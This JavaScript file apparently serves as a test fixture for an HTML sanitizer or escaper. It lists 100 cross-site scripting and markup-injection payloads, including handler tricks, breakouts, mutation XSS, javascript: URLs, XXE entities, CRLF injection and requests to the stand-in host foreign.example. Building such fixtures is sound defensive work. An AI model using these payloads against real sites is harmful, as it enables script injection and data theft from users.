// A hundred texts that mean harm, written for this project: each calls `harm()` or asks foreign.example for something
// where it is taken for more than text. The program must show or drop them, and nothing else.

const AWAY = 'http://foreign.example';
// Strings of control characters are written by number, so that this file holds none.
const of = (...codes) => String.fromCodePoint(...codes);
const [NUL, TAB, LF, CR, ESC] = [of(0), of(9), of(10), of(13), of(27)];
const [RLO, RLI, PDI, LRM, ZWSP, BOM] = [of(0x202e), of(0x2067), of(0x2069), of(0x200e), of(0x200b), of(0xfeff)];

const SCRIPTS = [
  '<script>harm(1)</script>',
  '<SCRipt\n>harm(2)</SCRipt\t>',
  '<script/src=data:text/javascript,harm(3)></script>',
  `<script src="${AWAY}/4.js" async defer></script>`,
  '<script type=module>import("data:text/javascript,harm(5)")</script>',
  '<scr<script>ipt>harm(6)</scr</script>ipt>',
  '<script>/*</script><svg/onload=harm(7)>*/',
  `<script type="importmap">{"imports":{"a":"${AWAY}/8.js"}}</script>`,
  '<script type="speculationrules">{"prerender":[{"source":"list","urls":["http://foreign.example/9"]}]}</script>',
  '<noscript><p title="</noscript><img src=x onerror=harm(10)>">',
];

const HANDLERS = [
  '<img src=x onerror=harm(11)>',
  '<img/src="x"/onerror="harm(12)"//',
  '<image src=x onerror=harm(13)>',
  '<body onpageshow=harm(14) onload=harm(14)>',
  '<details open ontoggle=harm(15)><summary>more</summary></details>',
  '<input autofocus onfocus=harm(16)>',
  '<video autoplay onloadstart=harm(17)><source src=x onerror=harm(17)></video>',
  '<audio src=x onerror=harm(18) controls>',
  '<p style="animation:a 1s" onanimationstart=harm(19) oncontentvisibilityautostatechange=harm(19)>moves</p>',
  '<div popover id=p onbeforetoggle=harm(20)>x</div><button popovertarget=p>open</button>',
  '<marquee loop=1 width=0 onfinish=harm(21)>x</marquee>',
  '<select autofocus onfocusin=harm(22)><option>a</select>',
  `<img src=x onerror${TAB}=${TAB}harm(23)>`,
  `<img src=x on${NUL}error=harm(24)>`,
];

const BREAKOUTS = [
  '"><img src=x onerror=harm(25)>',
  "'><img src=x onerror=harm(26)>",
  '` onmouseover=harm(27) autofocus tabindex=1 onfocus=harm(27) x=`',
  '" autofocus onfocus="harm(28)" tabindex="0',
  "' autofocus onfocus='harm(29)' tabindex='0",
  '"/><script>harm(30)</script><a b="',
  '</title><script>harm(31)</script>',
  '</textarea></style></script></title></noscript></template></iframe><img src=x onerror=harm(32)>',
  '</h1></article></main><script>harm(33)</script><main><article><h1>',
  '--><script>harm(34)</script><!--',
  '--!><img src=x onerror=harm(35)><!--',
  '<!--><img src=x onerror=harm(36)>-->',
  '<!-- --!><img src=x onerror=harm(37)> -->',
  '&quot;&gt;&lt;img src=x onerror=harm(38)&gt;',
  '&amp;lt;script&amp;gt;harm(39)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;harm(40)&#60;/script&#62;',
  '&lt;script&gt;harm(41)&lt;/script&gt;',
  '{{constructor.constructor("harm(42)")()}} {% include "x" %} ${harm(42)} <%= harm(42) %>',
];

const DATA = [
  '</script><script>harm(43)</script>',
  '"}</script><img src=x onerror=harm(44)><script type="application/ld+json">{"a":"',
  '<!--<script>"harm(45)"</script><script>harm(45)</script>-->',
  `\u2028harm(46)\u2029</script\u2028><script>harm(46)</script>`,
  '\\"});harm(47);//\\u003c/script\\u003e\\u003cscript\\u003eharm(47)\\u003c/script\\u003e',
  ']]><script>harm(48)</script><![CDATA[',
  ']]&gt;<x:script xmlns:x="http://www.w3.org/1999/xhtml">harm(49)</x:script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">harm(50)</x:script>',
  `<?xml-stylesheet href="${AWAY}/51.xsl" type="text/xsl"?>`,
  `<!DOCTYPE rss [<!ENTITY a SYSTEM "${AWAY}/52">]>&a;`,
  '</title></item></channel></rss><script xmlns="http://www.w3.org/1999/xhtml">harm(53)</script>',
  '<![CDATA[<img src=x onerror=harm(54)>]]>',
];

const ADDRESSES = [
  '<a href="javascript:harm(55)" id=go>go</a>',
  `<a href="java${TAB}script:harm(56)">go</a>`,
  `<a href="${of(1)}javascript:harm(57)">go</a>`,
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;harm(58)">go</a>',
  '<a href="javascript&colon;harm(59)">go</a>',
  '<a href="JaVaScRiPt&NewLine;:harm(60)">go</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5oYXJtKDYxKTwvc2NyaXB0Pg==">go</a>',
  '<a href="vbscript:harm(62)">go</a><a href="blob:http://a/1">go</a><a href="file:///etc/passwd">go</a>',
  '<a href="view-source:javascript:harm(63)" ping="http://foreign.example/63">go</a>',
  'javascript:harm(64)',
  ' \u00a0javascript:harm(65)//http://plain.example/',
  '<a href="//foreign.example\\@plain.example/66">go</a>',
  '<iframe src="javascript:parent.harm(67)"></iframe>',
  '<iframe srcdoc="<script>parent.harm(68)</script>"></iframe>',
  '<object data="data:text/html,<script>parent.harm(69)</script>"></object><embed src="javascript:harm(69)">',
  '<form action="javascript:harm(70)"><button autofocus formaction="javascript:harm(70)">go</button></form>',
  '<base href="http://foreign.example/71/"><a href="x">go</a>',
];

const MUTANTS = [
  '<svg onload=harm(72)>',
  '<svg><script>harm(73)</script></svg>',
  '<svg><style><img src=x onerror=harm(74)></style></svg>',
  '<svg><a href="#"><animate attributeName="href" values="javascript:harm(75)"/><text y=9>go</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>harm(76)</script></svg>#a"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.harm(77)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=harm(78)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=harm(79)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harm(80)>',
  '<math href="javascript:harm(81)"><maction actiontype="statusline" xlink:href="javascript:harm(81)">go</maction></math>',
  '<table><tr><td><table><img src=x onerror=harm(82)><p>fostered</table></td><svg><desc><td><style></table>',
  '<template><img src=x onerror=harm(83)></template><template shadowrootmode=open><img src=x onerror=harm(83)></template>',
  '<xmp><p title="</xmp><img src=x onerror=harm(84)>"></xmp><noembed><p title="</noembed><img src=x onerror=harm(84)>">',
  '<p id="</p><img src=x onerror=harm(85)>"><svg></p><style><a title="</style><img src=x onerror=harm(85)>">',
  '<plaintext><script>harm(86)</script>',
];

const STYLES = [
  '<style>@import url("http://foreign.example/87.css");*{background:url(http://foreign.example/87)}</style>',
  '<link rel=stylesheet href="http://foreign.example/88.css"><link rel="preload prefetch icon" as=image href="http://foreign.example/88">',
  '<p style="position:fixed;inset:0;z-index:99;background:url(http://foreign.example/89)">all over</p>',
  '<img srcset="http://foreign.example/90 1x, http://foreign.example/90-2 2x" sizes=100vw src="http://foreign.example/90-3" alt>',
  '<picture><source srcset="http:a<script>harm(91)</script> 1x"><img src="data:image/svg+xml,<svg onload=harm(91)>"></picture>',
  '<meta http-equiv=refresh content="0;url=javascript:harm(92)"><meta http-equiv="refresh" content="0;url=http://foreign.example/92">',
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><meta charset=utf-7>+ADw-script+AD4-harm(93)+ADw-/script+AD4-`,
];

const LETTERS = [
  `${RLO}<script>harm(94)</script>${RLI}gpj.exe${PDI}${PDI}${PDI}${LRM}`,
  `<scr${ZWSP}ipt>harm(95)</scr${ZWSP}ipt>${BOM}<img src=x onerror=harm(95)>`,
  `${NUL}<${NUL}script>harm(96)</script>${ESC}[2J${of(0xfffe)}${of(0x1f600)}`,
  `line${CR}${LF}Content-Security-Policy: default-src *${CR}${LF}${CR}${LF}<script>harm(97)</script>`,
  `\uff1cscript\uff1eharm(98)\uff1c/script\uff1e \u02baonfocus=harm(98) \u2039script\u203a`,
];

const LONG = [
  `${'<b>'.repeat(600)}<img src=x onerror=harm(99)>${'</b>'.repeat(600)}`,
  `${'A'.repeat(20_000)}"><script>harm(100)</script>${'\u0301'.repeat(2000)}`,
];

export const PAYLOADS = [
  ...SCRIPTS,
  ...HANDLERS,
  ...BREAKOUTS,
  ...DATA,
  ...ADDRESSES,
  ...MUTANTS,
  ...STYLES,
  ...LETTERS,
  ...LONG,
];
